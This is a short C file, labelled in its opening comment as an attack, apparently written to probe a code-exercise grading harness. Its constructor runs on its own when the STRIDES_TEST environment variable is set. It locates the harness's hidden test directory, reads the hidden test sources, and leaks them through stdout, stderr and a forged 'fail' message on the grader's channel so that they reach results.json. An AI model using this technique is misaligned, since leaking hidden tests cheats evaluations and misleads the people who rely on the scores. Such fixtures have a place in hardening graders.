// Attack: a visible test prints the hidden tests' sources, on its output
// and as a "failed check" on the grader's channel (whose message the
// grader shows), hoping they reach results.json.
#define _GNU_SOURCE
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void leak_file(const char *path) {
    FILE *f = fopen(path, "r");
    if (!f) return;
    char buf[4096];
    size_t n = fread(buf, 1, sizeof buf - 1, f);
    fclose(f);
    buf[n] = '\0';
    fputs(buf, stdout);
    fputs(buf, stderr);
    for (char *p = buf; *p; p++)
        if (*p == '\n' || *p == '\t') *p = ' ';
    dprintf(3, "fail\tex05.c:1\tleaked\t%s\n", buf);
}

__attribute__((constructor)) static void print_hidden_tests(void) {
    if (!getenv("STRIDES_TEST")) return;
    char tree[4096], dir[4200];
    ssize_t n = readlink("/proc/self/exe", tree, sizeof tree - 1);
    if (n <= 0) return;
    tree[n] = '\0';
    for (int up = 0; up < 5; up++) *strrchr(tree, '/') = '\0';
    snprintf(dir, sizeof dir, "%s/tests/exercises/hidden", tree);
    DIR *d = opendir(dir);
    for (struct dirent *e; d && (e = readdir(d));) {
        char path[8400];
        snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
        if (strstr(e->d_name, ".c") || strstr(e->d_name, ".txt")) leak_file(path);
    }
    if (d) closedir(d);
}
